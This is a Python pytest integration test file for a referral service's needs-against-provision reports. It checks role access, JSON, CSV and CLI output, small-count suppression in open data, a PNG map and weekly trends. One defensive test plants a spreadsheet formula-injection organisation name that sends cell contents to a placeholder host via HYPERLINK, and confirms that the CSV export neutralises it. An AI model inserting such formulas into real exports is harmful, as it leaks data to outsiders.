"""Needs against provision over HTTP and on the command line: roles, JSON, CSV, open data, the map."""

import csv
import io
import json
from datetime import timedelta

import pytest
from PIL import Image

from db.base import utcnow
from directory.areas import load_areas
from reports.needs import needs_report
from reports.render import COLUMNS, report_dict
from tests.integration.reports.history import build_known_history

PROBLEM = "application/problem+json"


@pytest.fixture
def history(session_factory, directory):
    return build_known_history(session_factory, directory, utcnow())


@pytest.fixture
def admin(headers_for):
    return headers_for("admin")


def get(client, headers, path="/api/v1/reports/needs", expected=200, **query):
    response = client.get(path, query_string=query, headers=headers)
    assert response.status_code == expected, response.get_data(as_text=True)[:500]
    return response


def without_time(document: dict) -> dict:
    return {key: value for key, value in document.items() if key != "generated_at"}


@pytest.mark.parametrize(
    ("role", "status"),
    [("admin", 200), ("safety_net_officer", 200), ("helpline_staff", 403), ("partner_referrer", 403)],
)
def test_who_may_read_reports(client, headers_for, role, status):
    for path in ("/api/v1/reports/needs", "/api/v1/reports/needs.png"):
        assert client.get(path, headers=headers_for(role)).status_code == status


def test_coordinators_and_strangers_may_not(client, headers_for, directory):
    coordinator = headers_for("hub_coordinator", directory["hub"])
    assert client.get("/api/v1/reports/needs", headers=coordinator).status_code == 403
    assert client.get("/api/v1/reports/needs").status_code == 401


def test_json_is_the_service_s_report(client, admin, session, history):
    body = get(client, admin, since=history.since.isoformat()).get_json()

    expected = report_dict(needs_report(session, load_areas(), since=history.since))
    assert without_time(body) == without_time(expected)
    shopping = next(r for r in body["rows"] if (r["area"], r["need"]) == ("sutton", "shopping"))
    assert {k: shopping[k] for k in ("people", "referrals", "accepted", "completed", "unmet", "late")} == {
        "people": 3,
        "referrals": 3,
        "accepted": 3,
        "completed": 1,
        "unmet": 0,
        "late": 0,
    }
    assert (
        shopping["median_hours_to_accept"],
        shopping["providers"],
        shopping["providers_needed"],
        shopping["duplicated"],
    ) == (4.0, 2, 2, False)
    sutton = next(p for p in body["places"] if (p["area_type"], p["area"]) == ("council_area", "sutton"))
    assert (sutton["people"], sutton["providers"], sutton["capacity"]) == (6, 3, 30)


def test_since_and_area_filter(client, admin, history):
    everything = get(client, admin, area="sutton").get_json()
    recent = get(client, admin, area="sutton", since=history.since.isoformat()).get_json()

    def shopping(body):
        return next(r for r in body["rows"] if (r["area"], r["need"]) == ("sutton", "shopping"))

    assert (shopping(everything)["people"], shopping(recent)["people"]) == (4, 3)
    assert {r["council_area"] for r in recent["rows"]} == {"sutton"}
    assert (recent["area"], recent["area_name"]) == ("sutton", "London Borough of Sutton")


def test_csv(client, admin, history):
    response = get(client, admin, format="csv", since=history.since.isoformat())

    assert response.mimetype == "text/csv"
    assert "needs.csv" in response.headers["Content-Disposition"]
    lines = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert tuple(lines[0]) == COLUMNS
    json_rows = get(client, admin, since=history.since.isoformat()).get_json()["rows"]
    assert len(lines) == len(json_rows)
    sm2 = next(line for line in lines if (line["area"], line["need"]) == ("SM2", "shopping"))
    assert sm2 == {
        "area_type": "outcode",
        "area": "SM2",
        "area_name": "SM2",
        "ons_code": "E09000029",
        "ons_name": "Sutton",
        "council_area": "sutton",
        "need": "shopping",
        "people": "1",
        "referrals": "1",
        "accepted": "1",
        "completed": "0",
        "unmet": "0",
        "late": "0",
        "median_hours_to_accept": "8",
        "capacity_offered": "2.5",
        "providers": "1",
        "providers_needed": "1",
        "duplicated": "no",
        "gap": "no",
    }


def test_open_data_suppresses_counts_under_five(client, admin, history):
    body = get(client, admin, open_data="true").get_json()
    text = get(client, admin, open_data="true", format="csv").get_data(as_text=True)

    assert (body["open_data"], body["suppression_threshold"]) == (True, 5)
    shopping = next(r for r in body["rows"] if (r["area"], r["need"]) == ("sutton", "shopping"))
    assert (shopping["people"], shopping["accepted"], shopping["completed"], shopping["unmet"]) == (
        None,
        None,
        None,
        0,
    )
    assert shopping["suppressed"] == [
        "people",
        "referrals",
        "accepted",
        "completed",
        "median_hours_to_accept",
    ]
    assert all(r["people"] in (None, 0) for r in body["rows"]), "every cell of this history is small"
    line = next(
        row
        for row in csv.DictReader(io.StringIO(text))
        if (row["area"], row["need"]) == ("sutton", "shopping")
    )
    assert [line[c] for c in ("people", "accepted", "completed", "unmet", "median_hours_to_accept")] == [
        "<5",
        "<5",
        "<5",
        "0",
        "",
    ]


def test_the_threshold_comes_from_the_settings(database_url, history, headers_for):
    from api import create_app

    app = create_app({"DATABASE_URL": database_url, "TESTING": True, "REPORT_SUPPRESSION_THRESHOLD": 3})
    try:
        body = get(app.test_client(), headers_for("admin"), open_data="true").get_json()
    finally:
        app.extensions["oneroute"].engine.dispose()

    shopping = next(r for r in body["rows"] if (r["area"], r["need"]) == ("sutton", "shopping"))
    assert (body["suppression_threshold"], shopping["referrals"], shopping["completed"]) == (3, 4, None)


def test_an_officer_sees_their_own_area(client, headers_for, directory, history):
    officer = headers_for("safety_net_officer", directory["sutton_safety_net"])

    body = get(client, officer).get_json()

    assert body["area"] == "sutton"
    assert {r["council_area"] for r in body["rows"]} == {"sutton"}
    refused = get(client, officer, area="coventry", expected=403)
    assert refused.mimetype == PROBLEM
    get(client, officer, path="/api/v1/reports/needs.png", area="coventry", expected=403)


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"area": "atlantis"}, "area"),
        ({"since": "last tuesday"}, "since"),
        ({"format": "xlsx"}, "format"),
    ],
)
def test_bad_queries_are_422(client, admin, query, field):
    response = get(client, admin, expected=422, **query)

    assert response.mimetype == PROBLEM
    assert field in response.get_json()["errors"]


def test_the_map_is_a_png(client, admin, history):
    response = get(client, admin, path="/api/v1/reports/needs.png", area="sutton", open_data="true")

    assert response.mimetype == "image/png"
    image = Image.open(io.BytesIO(response.data))
    assert (image.format, image.size) == ("PNG", (900, 900))
    assert len(image.convert("RGB").getcolors(maxcolors=1_000_000)) > 50


def test_cli_needs_in_every_format(app, history):
    runner = app.test_cli_runner()
    since = history.since.isoformat()

    table = runner.invoke(args=["report", "needs", "--since", since, "--area", "sutton"])
    as_csv = runner.invoke(args=["report", "needs", "--since", since, "--format", "csv"])
    as_json = runner.invoke(args=["report", "needs", "--since", since, "--format", "json", "--open-data"])

    assert table.exit_code == 0, table.output
    assert table.output.startswith("Needs against provision: London Borough of Sutton, from " + since)
    assert any(
        line.split()[:3] == ["council_area", "London", "Borough"] for line in table.output.splitlines()
    )
    assert as_csv.exit_code == 0, as_csv.output
    assert as_csv.output.splitlines()[0] == ",".join(COLUMNS)
    assert (
        "outcode,SM2,SM2,E09000029,Sutton,sutton,shopping,1,1,1,0,0,0,8,2.5,1,1,no,no"
        in as_csv.output.splitlines()
    )
    document = json.loads(as_json.output)
    assert (document["open_data"], document["since"]) == (True, since)


def test_cli_refuses_an_unknown_area(app):
    result = app.test_cli_runner().invoke(args=["report", "needs", "--area", "atlantis"])

    assert result.exit_code != 0
    assert "unknown area 'atlantis'" in result.output


def test_cli_draws_the_map(app, history, tmp_path):
    path = tmp_path / "needs.png"

    result = app.test_cli_runner().invoke(args=["report", "map", str(path), "--area", "coventry"])

    assert result.exit_code == 0, result.output
    assert Image.open(path).size == (900, 900)


HOSTILE_NAME = '=HYPERLINK("http://x/?d="&A1,"Click")'


@pytest.mark.parametrize("open_data", ["false", "true"])
def test_a_hostile_organisation_name_cannot_run_as_a_formula_in_needs_csv(
    client, admin, session_factory, directory, history, open_data
):
    from directory.models import Organisation

    with session_factory() as session:
        session.get(Organisation, directory["hub"]).name = HOSTILE_NAME
        session.commit()

    text = get(client, admin, format="csv", open_data=open_data).get_data(as_text=True)

    hub_rows = [row for row in csv.DictReader(io.StringIO(text)) if row["area_type"] == "hub"]
    assert hub_rows
    assert {row["area_name"] for row in hub_rows} == {"'" + HOSTILE_NAME}
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_until_ends_the_period_on_its_day(client, admin, history):
    """Referral 8 came in 20 days before T0: a period ending the day before T0 holds it alone."""
    before = (history.t0 - timedelta(days=1)).date()
    body = get(client, admin, until=before.isoformat(), area="sutton").get_json()
    assert body["until"] == before.isoformat()
    shopping = next(r for r in body["rows"] if (r["area"], r["need"]) == ("sutton", "shopping"))
    assert (shopping["people"], shopping["referrals"]) == (1, 1)
    problem = get(client, admin, expected=422, since="2026-03-02", until="2026-03-01")
    assert problem.content_type == PROBLEM
    assert "until" in problem.get_json()["errors"]


def test_trend_week_by_week_adds_up_to_the_needs_report(client, admin, history, session):
    since, until = history.since, history.t0.date() + timedelta(days=1)
    body = get(
        client, admin, "/api/v1/reports/trend", since=since.isoformat(), until=until.isoformat()
    ).get_json()
    assert (body["since"], body["until"]) == (since.isoformat(), until.isoformat())
    report = needs_report(session, load_areas(), since=since, until=until)
    for need in ("shopping", "food", "befriending"):
        rows = [r for r in body["rows"] if (r["council_area"], r["need"]) == ("sutton", need)]
        total = rows[-1]
        assert total["week"] is None
        assert all(r["week"] for r in rows[:-1])
        assert sum(r["people"] for r in rows[:-1]) == total["people"]
        council = next(
            r for r in report.rows if (r.area_type, r.area, r.need) == ("council_area", "sutton", need)
        )
        assert (total["people"], total["unmet"], total["late"]) == (
            council.people,
            council.unmet,
            council.late,
        )
        assert total["ons_code"] == "E09000029"
    everyone = next(
        r for r in body["rows"] if (r["council_area"], r["need"], r["week"]) == ("sutton", "any", None)
    )
    assert (
        everyone["people"] == 6
    )  # residents 1-5 and 7 of the known history; 9 is linked, 8 before the period


def test_trend_as_csv_and_as_open_data(client, admin, history):
    query = {"since": history.since.isoformat(), "area": "sutton"}
    text = get(client, admin, "/api/v1/reports/trend", format="csv", **query).get_data(as_text=True)
    table = list(csv.DictReader(io.StringIO(text)))
    assert table[0].keys() >= {"week", "council_area", "ons_code", "need", "people", "unmet"}
    assert {row["council_area"] for row in table} == {"sutton"}
    assert any(row["week"] == "period" for row in table)
    open_rows = get(client, admin, "/api/v1/reports/trend", open_data="true", format="csv", **query)
    published = list(csv.DictReader(io.StringIO(open_rows.get_data(as_text=True))))
    assert all(row["people"] in ("0", "<5", "withheld") or int(row["people"]) >= 5 for row in published)
    assert any(row["people"] == "<5" for row in published)


def test_trend_roles_scope_and_bad_periods(client, headers_for, directory, history, admin):
    assert client.get("/api/v1/reports/trend", headers=headers_for("helpline_staff")).status_code == 403
    assert client.get("/api/v1/reports/trend").status_code == 401
    officer = headers_for("safety_net_officer", directory["coventry_safety_net"])
    body = get(client, officer, "/api/v1/reports/trend", since=history.since.isoformat()).get_json()
    assert {r["council_area"] for r in body["rows"]} == {"coventry"}
    assert get(client, officer, "/api/v1/reports/trend", expected=403, area="sutton")
    too_long = get(client, admin, "/api/v1/reports/trend", expected=422, since="2000-01-03")
    assert "since" in too_long.get_json()["errors"]
    default = get(client, admin, "/api/v1/reports/trend").get_json()
    assert len({r["week"] for r in default["rows"] if r["week"]}) == 12


def test_cli_trend_is_the_api_s(app, client, admin, history):
    since, until = history.since.isoformat(), history.t0.date().isoformat()
    runner = app.test_cli_runner()
    as_csv = runner.invoke(args=["report", "trend", "--since", since, "--until", until, "--area", "sutton"])
    assert as_csv.exit_code == 0, as_csv.output
    api = get(client, admin, "/api/v1/reports/trend", since=since, until=until, area="sutton", format="csv")
    assert as_csv.output == api.get_data(as_text=True)
    backwards = runner.invoke(args=["report", "trend", "--since", until, "--until", since])
    assert backwards.exit_code != 0
    assert "the last day comes before the first day" in backwards.output
